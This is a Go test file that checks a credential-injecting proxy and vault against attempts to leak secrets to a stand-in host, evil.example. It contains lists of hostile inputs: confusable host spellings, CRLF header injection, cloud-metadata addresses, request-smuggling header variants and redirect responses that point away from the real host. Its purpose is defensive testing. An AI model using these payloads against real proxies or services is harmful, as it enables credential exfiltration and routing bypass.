package test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"hotcell"
	"hotcell/internal/line/vaultrpc"
	"hotcell/internal/wire/authority"
	"hotcell/test/prove"
)

// maze is a booth whose dialer leads every name and port but the booth's own to a
// twin, which has a certificate for whatever it is asked for, and hears all.
type maze struct {
	*booth
	twin net.Listener
	mu   sync.Mutex
	// heard is what came to the twin, dialled for whom.
	heard   bytes.Buffer
	dialled []string
}

// Dial implements the dialer of gateway and vault.
func (m *maze) Dial(ctx context.Context, host string, port int) (net.Conn, error) {
	if host == m.host && port == m.port {
		return m.guard.Dial(ctx, host, port)
	}
	m.mu.Lock()
	m.dialled = append(m.dialled, fmt.Sprintf("%s:%d", host, port))
	m.mu.Unlock()
	return (&net.Dialer{}).DialContext(ctx, "tcp", m.twin.Addr().String())
}

func openMaze(t *testing.T) *maze {
	t.Helper()
	m := &maze{}
	m.booth = openBoothBy(t, "api.acme.example", func(b *booth, ca *authority.Authority) {
		l, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{MinVersion: tls.VersionTLS12, NextProtos: []string{"h2", "http/1.1"}, GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) {
			name := h.ServerName
			if name == "" {
				name = "127.0.0.1"
			}
			c, err := ca.Issue(name)
			return &c, err
		}})
		b.must(err)
		m.twin, b.dialer = l, m
		b.more = []hotcell.Allow{{Host: "evil.example", Port: 443, Protocol: hotcell.ProtocolHTTPS}, {Host: "api.acme.example", Port: 443, Protocol: hotcell.ProtocolHTTPS}}
		t.Cleanup(func() { _ = l.Close() })
		go m.listen()
	})
	return m
}

func (m *maze) listen() {
	for {
		c, err := m.twin.Accept()
		if err != nil {
			return
		}
		go func() {
			defer func() { _ = c.Close() }()
			buf := make([]byte, 4096)
			for {
				n, err := c.Read(buf)
				m.mu.Lock()
				m.heard.Write(buf[:n])
				m.mu.Unlock()
				if err != nil {
					return
				}
				if bytes.Contains(buf[:n], []byte("\r\n\r\n")) {
					_, _ = io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nevil")
				}
			}
		}()
	}
}

// tell sends bytes on a connection that was asked for, under TLS where a name is
// given, and waits for what comes back.
func (m *maze) tell(target, name, text string) {
	m.t.Helper()
	c, err := (&net.Dialer{}).DialContext(m.t.Context(), "unix", m.line)
	m.must(err)
	defer func() { _ = c.Close() }()
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	if _, err := fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target); err != nil {
		return
	}
	in := bufio.NewReader(c)
	answer, err := http.ReadResponse(in, &http.Request{Method: http.MethodConnect})
	if err != nil || answer.StatusCode != http.StatusOK {
		return
	}
	var talk net.Conn = c
	if name != "" {
		talk = tls.Client(c, &tls.Config{InsecureSkipVerify: true, ServerName: name})
	}
	if _, err := io.WriteString(talk, text); err != nil {
		return
	}
	_, _ = http.ReadResponse(bufio.NewReader(talk), nil)
}

// streams sends requests of HTTP/2 with pseudo-headers and headers as they are given.
func (m *maze) streams(fields [][2]string) {
	m.t.Helper()
	c, err := (&net.Dialer{}).DialContext(m.t.Context(), "unix", m.line)
	m.must(err)
	defer func() { _ = c.Close() }()
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	to := fmt.Sprintf("%s:%d", m.host, m.port)
	_, err = fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", to, to)
	m.must(err)
	answer, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
	m.must(err)
	if answer.StatusCode != http.StatusOK {
		m.t.Fatal(answer.Status)
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM([]byte(m.ca))
	talk := tls.Client(c, &tls.Config{RootCAs: roots, ServerName: m.host, NextProtos: []string{"h2"}, MinVersion: tls.VersionTLS12})
	_, err = io.WriteString(talk, http2.ClientPreface)
	m.must(err)
	framer := http2.NewFramer(talk, talk)
	m.must(framer.WriteSettings())
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, f := range fields {
		_ = encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	m.must(framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: true}))
	for {
		f, err := framer.ReadFrame()
		if err != nil {
			return
		}
		if f.Header().StreamID == 1 && (f.Header().Type == http2.FrameRSTStream || f.Header().Flags.Has(http2.FlagDataEndStream)) || f.Header().Type == http2.FrameGoAway {
			return
		}
	}
}

// spellings are names and addresses that one reader could take for the host, and
// another for another.
func spellings(host string, port int) []string {
	p := fmt.Sprint(port)
	return []string{
		host, host + ":" + p, host + ".", host + ".:" + p, strings.ToUpper(host) + ":" + p, "Api.Acme.Example:" + p, host + ":443", host + ":80", host + ":0" + p, host + ":+" + p, host + ":" + p + "0", host + ":", host + "::" + p, host + ":" + p + ":443",
		"evil.example", "evil.example:443", "evil.example:" + p, "evil.example.", host + ".evil.example:443", "evil.example#" + host + ":" + p, "evil.example/" + host + ":" + p, "evil.example\\" + host + ":" + p, "evil.example?" + host + ":" + p, "evil.example;" + host + ":" + p,
		host + "@evil.example:443", "evil.example@" + host + ":" + p, "user:pass@" + host + ":" + p, host + ":" + p + "@evil.example:443", host + "%2eevil.example:443", host + "%00.evil.example:443", host + "\x00.evil.example:443", host + "%20:" + p, host + "%23@evil.example:443",
		" " + host + ":" + p, host + " :" + p, host + "\t:" + p, host + ":" + p + " evil.example", host + ":" + p + ",evil.example:443", "evil.example:443," + host + ":" + p, host + ":" + p + "\tevil.example", "[" + host + "]:" + p,
		"xn--pi-8ja.acme.example:" + p, "аpi.acme.example:" + p, "api。acme。example:" + p, "api.acme.example\u200b:" + p, "ａｐｉ.acme.example:" + p, "api\u00ad.acme.example:" + p, "api.acme.ex\u0430mple:" + p, "API.ACME.EXAMPLE.:443", "www." + host + ":" + p, "acme.example:" + p, "*.acme.example:" + p, ".acme.example:" + p,
		"127.0.0.1:" + p, "127.0.0.1:443", "localhost:" + p, "[::1]:" + p, "[::ffff:127.0.0.1]:" + p, "[fe80::1%25lo]:" + p, "[fe80::1%lo]:" + p, "[::1%25api.acme.example]:" + p, "2130706433:" + p, "0x7f000001:" + p, "0177.0.0.1:" + p, "127.1:" + p, "0:" + p, "[::]:" + p, "169.254.169.254:80",
		"https://" + host + ":" + p, "//" + host + ":" + p, "/" + host, "", ".", "..", ":" + p, "*", "http", "api.acme.example\n.evil.example", "a\r\nHost: evil.example", strings.Repeat("a.", 200) + "example:443",
	}
}

// TestProveACredentialGoesToNoOtherHost confuses whoever decides where a request goes, in
// every place where it is said: nothing of a value, a stand-in's or one that the job
// has, comes to another listener than that of its own host.
func TestProveACredentialGoesToNoOtherHost(t *testing.T) {
	t.Parallel()
	const held = "Hs3Pf0YgEuQm7Zr2Lx9Kd4Vw8Tn5Bm1Jc6"
	m := openMaze(t)
	m.connection("api", reflected, hotcell.Auth{Kind: "header", Name: "X-Acme-Key"}, hotcell.Narrowing{})
	m.secret("KEY", realKey, hotcell.InjectStandIn, hotcell.Narrowing{})
	m.secret("HELD", held, hotcell.InjectEnvironment, hotcell.Narrowing{})
	m.start()
	home := fmt.Sprintf("%s:%d", m.host, m.port)
	brings := "Authorization: Bearer " + m.words["KEY"] + "\r\nX-Held: " + held + "\r\n"
	tries := 0
	try := func(target, name, text string) {
		tries++
		m.tell(target, name, text)
	}
	all := spellings(m.host, m.port)
	for i, s := range all {
		if step := len(all) / prove.Trials(20, len(all)); i%step != 0 {
			continue
		}
		shown := s
		if strings.ContainsAny(s, "\r\n") {
			shown = "evil.example"
		}
		try(shown, m.host, "GET / HTTP/1.1\r\nHost: "+s+"\r\n"+brings+"\r\n")                                             // the tunnel's target
		try(home, m.host, "GET / HTTP/1.1\r\nHost: "+s+"\r\n"+brings+"\r\n")                                              // Host
		try("evil.example:443", "evil.example", "GET / HTTP/1.1\r\nHost: "+s+"\r\n"+brings+"\r\n")                        // Host, elsewhere
		try(home, m.host, "GET https://"+s+"/ HTTP/1.1\r\nHost: "+home+"\r\n"+brings+"\r\n")                              // the absolute form
		try("evil.example:443", "evil.example", "GET https://"+home+"/ HTTP/1.1\r\nHost: "+s+"\r\n"+brings+"\r\n")        // and the other way round
		try(home, m.host, "GET / HTTP/1.1\r\nHost: "+home+"\r\nHost: "+s+"\r\n"+brings+"\r\n")                            // Host twice
		try("evil.example:443", "evil.example", "GET / HTTP/1.1\r\nHost: evil.example\r\nHost: "+s+"\r\n"+brings+"\r\n")  // and elsewhere
		try(home, m.host, "GET / HTTP/1.1\r\nX-Forwarded-Host: "+s+"\r\nForwarded: host="+s+"\r\nHost: "+home+"\r\n\r\n") // what proxies read
		try(home, m.host, "GET //"+s+"/ HTTP/1.1\r\nHost: "+home+"\r\n"+brings+"\r\n")                                    // a path that begins like a host
		try(home, m.host, "GET @"+s+"/ HTTP/1.1\r\nHost: "+home+"\r\n"+brings+"\r\n")                                     // or ends one
		m.streams([][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", s}, {":path", "/"}, {"host", home}, {"authorization", "Bearer " + m.words["KEY"]}, {"x-held", held}})
		m.streams([][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", home}, {":path", "/"}, {"host", s}, {"authorization", "Bearer " + m.words["KEY"]}, {"x-held", held}})
		tries += 2
	}
	for _, name := range []string{"evil.example", "acme.example", "API.acme.example", "api.acme.example.", "127.0.0.1", "xn--pi-8ja.acme.example", "api.acme.example.evil.example"} {
		try(home, name, "GET / HTTP/1.1\r\nHost: "+home+"\r\n"+brings+"\r\n")
		try("evil.example:443", name, "GET / HTTP/1.1\r\nHost: evil.example\r\n"+brings+"\r\n")
	}
	ends := "GET /evil HTTP/1.1\r\nHost: evil.example\r\n" + brings + "\r\n"
	for _, head := range []string{
		"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", "Content-Length: 0\r\nContent-Length: 4\r\n", "Transfer-Encoding: xchunked\r\n", "Transfer-Encoding : chunked\r\n", "Transfer-Encoding: identity, chunked\r\n", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
		"Transfer-Encoding:\tchunked\r\n", "Transfer-Encoding: \x0bchunked\r\n", "X: y\nTransfer-Encoding: chunked\r\n", "Content-Length: +4\r\n", "Content-Length: 4, 4\r\n", "Content-Length: 0x4\r\n", "Content-Length: 4\r\n Host: evil.example\r\n", "Transfer-Encoding: chunked\r\n , identity\r\n", "Transfer_Encoding: chunked\r\n", "Content-Length: -1\r\n",
	} {
		try(home, m.host, "POST / HTTP/1.1\r\nHost: "+home+"\r\n"+brings+head+"\r\n0\r\n\r\n"+ends)
		try("evil.example:443", "evil.example", "POST / HTTP/1.1\r\nHost: evil.example\r\n"+head+"\r\n0\r\n\r\n"+strings.ReplaceAll(ends, "evil.example", home))
		try(home, m.host, "POST / HTTP/1.0\r\n"+brings+head+"\r\n0\r\n\r\n"+ends)
	}
	for _, line := range []string{"GET / HTTP/1.0", "GET /", "GET evil.example:443 HTTP/1.1", "CONNECT evil.example:443 HTTP/1.1", "GET / HTTP/1.1 evil.example", "GET  / HTTP/1.1", "GET\t/\tHTTP/1.1", "get / HTTP/1.1", "GET /\\evil.example HTTP/1.1", "GET http:evil.example HTTP/1.1", "GET * HTTP/1.1", "GET / HTTP/2.0", "PRI * HTTP/2.0", "GET /#@evil.example HTTP/1.1", "GET /%0d%0aHost:%20evil.example HTTP/1.1", "GET /.. HTTP/1.1", "TRACE / HTTP/1.1"} {
		try(home, m.host, line+"\r\nHost: "+home+"\r\n"+brings+"\r\n")
		try(home, m.host, line+"\r\n"+brings+"\r\n")
	}
	for _, answer := range []string{
		"HTTP/1.1 301 Moved\r\nLocation: https://evil.example/\r\n", "HTTP/1.1 302 Found\r\nLocation: //evil.example/\r\n", "HTTP/1.1 303 See\r\nLocation: https://evil.example:443/\r\n", "HTTP/1.1 307 There\r\nLocation: https://evil.example/\r\n", "HTTP/1.1 308 There\r\nLocation: https://api.acme.example@evil.example/\r\n", "HTTP/1.1 300 Many\r\nLocation: https://evil.example\r\n",
		"HTTP/1.1 401 No\r\nWWW-Authenticate: Bearer resource_metadata=\"https://evil.example/\"\r\n", "HTTP/1.1 200 OK\r\nAlt-Svc: h2=\"evil.example:443\"; persist=1\r\n", "HTTP/1.1 200 OK\r\nRefresh: 0; url=https://evil.example/\r\n", "HTTP/1.1 200 OK\r\nLink: <https://evil.example/>; rel=preconnect\r\n", "HTTP/1.1 200 OK\r\nSet-Cookie: a=b; Domain=evil.example\r\n",
		"HTTP/1.1 305 Proxy\r\nLocation: https://evil.example/\r\n", "HTTP/1.1 421 Misdirected\r\nAlt-Svc: h3=\"evil.example:443\"\r\n", "HTTP/1.1 103 Early\r\nLink: <https://evil.example/>; rel=preload\r\n\r\nHTTP/1.1 200 OK\r\n", "HTTP/1.1 200 OK\r\nNEL: {\"report_to\":\"evil\"}\r\nReport-To: {\"endpoints\":[{\"url\":\"https://evil.example/\"}]}\r\n",
	} {
		m.reply = func(c net.Conn, _ *bufio.Reader, _ *http.Request, _ string) bool {
			_, err := io.WriteString(c, answer+"Content-Length: 2\r\n\r\nok")
			return err == nil
		}
		for range 2 { // what was told is not followed later either
			try(home, m.host, "GET / HTTP/1.1\r\nHost: "+home+"\r\n"+brings+"\r\n")
		}
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	for name, value := range map[string]string{"the stand-in's": realKey[8:], "the connection's": reflected, "the job's own": held} {
		if shows(m.heard.Bytes(), value) {
			t.Errorf("%s value came to another host: %.2000q", name, m.heard.Bytes())
		}
	}
	for _, to := range m.dialled {
		if to != "evil.example:443" && to != "api.acme.example:443" {
			t.Errorf("%s was dialled", to)
		}
	}
	if m.heard.Len() == 0 || tries < prove.Trials(300, 1000) {
		t.Errorf("%d were tried, and the twin heard %d bytes", tries, m.heard.Len())
	}
	m.booth.mu.Lock()
	defer m.booth.mu.Unlock()
	if got := strings.Join(m.arrived, "\n"); !strings.Contains(got, realKey) || !strings.Contains(got, reflected) || !strings.Contains(got, held) {
		t.Error("the values do not arrive at their own host either")
	}
}

// TestTheVaultForwardsToNoOtherHost plays a gateway that was taken over, and names
// other targets with each attachment: the vault knows where each belongs.
func TestTheVaultForwardsToNoOtherHost(t *testing.T) {
	t.Parallel()
	m := openMaze(t)
	m.connection("api", reflected, hotcell.Auth{Kind: "bearer"}, hotcell.Narrowing{})
	m.start()
	grant, err := m.worker.Rules(t.Context(), m.job)
	m.must(err)
	text, _ := json.Marshal(grant)
	var use string
	for _, u := range grant.Uses {
		use = string(u.Attachment)
	}
	if use == "" {
		t.Fatalf("there is no attachment in %s", text)
	}
	for _, s := range spellings(m.host, m.port) {
		for _, target := range []string{"https://" + s + "/", "http://" + s + "/", "https://" + s, s, "https:" + s, "https://" + m.host + "@" + s + "/", "HTTPS://" + s + "/x"} {
			if s == fmt.Sprintf("%s:%d", m.host, m.port) && strings.HasPrefix(target, "https://"+s+"/") {
				continue // where it belongs
			}
			r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "http://vault/", nil)
			m.must(err)
			r.Header[vaultrpc.HeaderTarget], r.Header[vaultrpc.HeaderJob], r.Header[vaultrpc.HeaderUse] = []string{target}, []string{string(m.job)}, []string{use}
			answer, err := m.worker.Forward(r)
			if err != nil {
				continue // it is no header that could be sent
			}
			_ = answer.Body.Close()
			if answer.Header.Get(vaultrpc.HeaderFault) == "" && answer.StatusCode != http.StatusBadRequest {
				t.Errorf("%q: %d", target, answer.StatusCode)
			}
		}
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	if len(m.dialled) > 0 || m.heard.Len() > 0 {
		t.Errorf("%q were dialled", m.dialled)
	}
	m.booth.mu.Lock()
	defer m.booth.mu.Unlock()
	if len(m.arrived) > 0 {
		t.Errorf("there arrives %q", m.arrived)
	}
}
